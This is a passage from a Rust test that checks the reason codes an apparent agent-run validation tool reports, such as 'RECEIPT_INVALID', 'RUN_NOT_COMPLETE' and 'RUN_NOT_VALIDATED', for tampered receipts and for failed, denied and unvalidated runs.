    fs::remove_file(&file).unwrap();
    assert_eq!(reasons(&first), json!(["RECEIPT_INVALID"]));
    fs::write(&file, text).unwrap();
    assert_eq!(reasons(&first), json!([]));

    let failing = failed(&actum, "three");
    assert_eq!(reasons(&failing), json!(["RUN_NOT_COMPLETE", "RUN_VALIDATION_FAILED"]));
    assert_eq!(reasons(&denied(&actum, "three"))[0], "RUN_NOT_COMPLETE");
    let item = json!({"id": "x", "agent_id": "four", "description": "Write a file."});
    let (code, unchecked) =
        run_work(&actum, &json!({"workspace": ".", "contract": {"profile": "ci"}, "items": [item]}));
    assert_eq!(code, 0);
    assert_eq!(reasons(&unchecked), json!(["RUN_NOT_VALIDATED"]));
}
